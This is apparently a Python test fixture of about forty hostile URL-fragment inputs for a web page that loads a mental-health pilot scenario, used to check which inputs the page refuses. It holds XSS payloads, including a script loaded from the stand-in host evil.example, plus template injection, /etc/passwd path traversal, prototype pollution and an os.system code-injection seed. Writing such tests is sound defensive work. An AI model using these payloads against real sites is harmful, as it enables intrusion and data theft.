"""What would a hostile sender put behind the # of a link? Forty links.

Wherever text can run, it calls `canary()`, which a test's window counts, or asks evil.example for something, which the
window records. `refused`: the page must say what is wrong; else it may say so or go on as if nothing had happened.
"""

from typing import NamedTuple
from urllib.parse import quote

PILOT = "rotherham_mental_health_pilot"
IMAGE = '<img src="https://evil.example/x" onerror="canary()">'
SCRIPT = "<script>canary()</script>"
ENDS = '"></title></option></select></script><script src="https://evil.example/x"></script>'
HANDLER = "' autofocus onfocus='canary()' x='"
ADDRESS = "javascript:canary()"
VECTOR = "</text></svg><svg onload=canary()>"
TEMPLATE = "{{ 7*7 }}${canary()}{% include '/etc/passwd' %}"


class Sent(NamedTuple):
    """Something hostile, and whether the page must refuse it."""

    what: str
    refused: bool = True


def _link(*pairs: tuple[str, object]) -> str:
    return "#" + "&".join(f"{quote(key)}={quote(str(value), safe='')}" for key, value in pairs)


def _pilot(*pairs: tuple[str, object]) -> str:
    return _link(("scenario", PILOT), *pairs)


LINKS: dict[str, Sent] = {
    "a title that is an image": Sent(_pilot(("title", IMAGE)), refused=False),
    "a title that is a script": Sent(_pilot(("title", SCRIPT)), refused=False),
    "a title that ends what it stands in": Sent(_pilot(("title", ENDS)), refused=False),
    "a title that is a handler": Sent(_pilot(("title", HANDLER)), refused=False),
    "a title that ends a picture": Sent(_pilot(("title", VECTOR)), refused=False),
    "a title that is a template": Sent(_pilot(("title", TEMPLATE)), refused=False),
    "a title that is an address": Sent(_pilot(("title", ADDRESS)), refused=False),
    "a title turned about": Sent(_pilot(("title", "\u202egnp.exe\u202c \u2066x\u2069")), refused=False),
    "a title too long": Sent(_pilot(("title", "a" * 201))),
    "a title of controls": Sent(_pilot(("title", "a\x00b\x1b[31mc")), refused=False),
    "a scenario that is a script": Sent(_link(("scenario", SCRIPT))),
    "a scenario that is an address": Sent(_link(("scenario", "https://evil.example/x.toml"))),
    "a scenario that is a path": Sent(_link(("scenario", "../../../../etc/passwd"))),
    "a scenario that is a path of this machine": Sent(_link(("scenario", "/etc/passwd"))),
    "a scenario that is a number": Sent(_link(("scenario", "7"))),
    "no scenario": Sent(_link(("link_workers.posts", 3))),
    "nothing but an address": Sent("#javascript:canary()"),
    "nothing but an image": Sent("#" + IMAGE),
    "nothing but percent signs": Sent("#%%%%%"),
    "bytes that are no UTF-8": Sent(f"#scenario={PILOT}&title=%ff%fe"),
    "a key that is a script": Sent(_pilot((SCRIPT, 1))),
    "a key that is an image": Sent(_pilot((f"link_workers.{IMAGE}", 1))),
    "a key of every object": Sent(_pilot(("__proto__.polluted", "true"), ("constructor.prototype.polluted", "true"))),
    "a value of every object": Sent(_pilot(("link_workers.posts", '{"__proto__": {"polluted": true}}'))),
    "a key of Python": Sent(_pilot(("__class__.__init__.__globals__", "x"))),
    "a key that is nearly one": Sent(_pilot(("link_workers.caseload_per_pots", 30))),
    "a key twice": Sent(_pilot(("link_workers.posts", 2), ("link_workers.posts", 3))),
    "a value that is an image": Sent(_pilot(("link_workers.posts", IMAGE))),
    "a value that is no number": Sent(_pilot(("link_workers.posts", "NaN"))),
    "a value without end": Sent(_pilot(("demand.referrals_per_week", "1e999"))),
    "a billion a week": Sent(_pilot(("demand.referrals_per_week", 1_000_000_000))),
    "a number of 6,000 digits": Sent(_pilot(("link_workers.posts", "9" * 6000))),
    "lists 3,000 deep": Sent(_pilot(("link_workers.absences", "[" * 3000))),
    "a link of a million letters": Sent(_pilot(("title", "a" * 1_000_000))),
    "2,000 keys": Sent(_pilot(*((f"activities.a{n}.places", 1) for n in range(300)))),
    "a whole file in a link": Sent(_pilot(("text", "schema = 1"))),
    "more replications than a day has room for": Sent(_pilot(("replications", 10**9))),
    "a seed that is code": Sent(_pilot(("seed", "__import__('os').system('id')"))),
    "a date that never was": Sent(_pilot(("dates.end", "2017-02-30"))),
    "a hostile option beside": Sent(_pilot(("beside.scenario", IMAGE), ("beside.title", SCRIPT))),
}
